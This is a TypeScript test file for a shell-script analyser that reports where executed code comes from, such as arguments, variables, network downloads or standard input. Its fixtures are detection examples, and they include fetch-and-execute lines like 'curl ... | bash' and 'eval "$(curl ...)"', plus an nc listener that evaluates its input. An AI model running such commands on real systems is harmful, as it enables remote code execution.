import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { TextPlace } from './script-references.ts';
import { scriptReferences } from './script-references.ts';

const originsOf = (text: string, place: TextPlace = {}): readonly string[] =>
  scriptReferences(text, place).unknown.flatMap(({ origins }) => origins);

test('what a script obeys of elsewhere is named with where it comes from', () => {
  const expected: Readonly<Record<string, string>> = {
    '. "$1"': 'the argument $1',
    '. "$CONF"': 'the variable CONF, which it does not set',
    'eval "$(curl -s https://x.example)"': 'what curl prints',
    'X=$(wget -qO- https://x.example); Y="a $X"; eval "$Y"': 'what wget prints',
    '. <(curl -s https://x.example)': 'what curl prints',
    'get() { curl -s https://x.example; }; eval "$(get)"': 'what curl prints',
    'run() { eval "$1"; }; run "$(ssh x date)"': 'what ssh prints',
    'while read -r l; do eval "$l"; done': 'its standard input',
    'nc -l 9999 | while read -r l; do eval "$l"; done': 'what nc prints',
    'X=$(cat "$1"); eval "$X"': 'the argument $1',
    'CMD=$1; "$CMD" --all': 'the argument $1',
    'exec "$@"': 'the argument $@',
    'for c; do $c; done': 'the argument $@',
    'C=(bash "$1"); "${C[@]}"': 'the argument $1',
    'curl -fsSL https://x.example/i.sh | bash -s -- -y': 'what curl prints',
    'curl -fsSL https://x.example/i.py | python3 -': 'what curl prints',
    'curl -s https://x.example | xargs -I{} sh -c "{}"': 'what curl prints',
    [`bash -c 'eval "$1"' _ "$(curl -s https://x)"`]: 'what curl prints',
    'cd "$1" && ./run.sh': 'the argument $1',
    'export $(curl -s https://x.example/env)': 'what curl prints',
  };
  for (const [text, origin] of Object.entries(expected)) assert.deepEqual(originsOf(text), [origin], text);
});

test('what programs of the system print, and what is known or judged, is from nowhere else', () => {
  for (const text of [
    'eval "$(apt-config shell A B)"; eval $(dircolors); eval "$(ssh-agent -s)"',
    '. <(kubectl completion bash)',
    'CMD=$(which docker); "$CMD" ps; command -v "$1"; $(command -v curl) x',
    'PY=${PY:-python3}; $PY /opt/y.py',
    'CMD=/opt/y; while getopts c: o; do CMD=$OPTARG; done; $CMD',
    'run() { eval "$*"; }; run apt-get update',
    'X=$(cat /etc/x); eval "$X"',
    '. /opt/lib.sh; eval "$SET_THERE"',
    `bash -c 'eval "$1"' _ date`,
    'cd "$(mktemp -d)" && ./run.sh',
    'curl -s https://x.example | python3 -m json.tool',
    'sudo -u ann "$CMD"; su ann -c "$1"',
    '"$EDITOR" /etc/x; ${X+break}',
    'bash',
  ])
    assert.deepEqual(originsOf(text), [], text);
  assert.deepEqual(originsOf('eval "$X"; . "$1"', { isPart: true }), []);
  assert.deepEqual(originsOf('bash "$1"', { args: ['/opt/y.sh'] }), []);
  assert.deepEqual(originsOf('bash "$1"', { args: [undefined] }), ['the argument $1']);
});

test('files whose text reaches what is obeyed by variables, functions and URLs are named', () => {
  for (const text of [
    'X=$(cat /srv/x); Y="a $X"; eval "$Y"',
    'get() { cat /srv/x; }; eval "$(get)"',
    'A=$(head -1 /srv/x); CMD=/opt/$A/run; $CMD',
    'curl -s file:///srv/x | sh',
  ])
    assert.ok(
      scriptReferences(text).files.some(({ path }) => path === '/srv/x'),
      text,
    );
});

test('a doubt has the line and the command with its pipe', () => {
  const { unknown } = scriptReferences('#!/bin/sh\ndate\ncurl -s https://x | sh\n');
  assert.deepEqual(unknown, [{ line: 3, written: 'curl -s https://x | sh', origins: ['what curl prints'] }]);
});

test('a script of many values that depend on each other is read in little time', () => {
  const lines = Array.from({ length: 2000 }, (_, at) => `X${at + 1}=$X${at}$X${at}\neval "$X${at + 1}"`);
  const start = performance.now();
  assert.equal(scriptReferences(`X0=$1\n${lines.join('\n')}`).unknown.length, 2000);
  assert.ok(performance.now() - start < 5000);
});
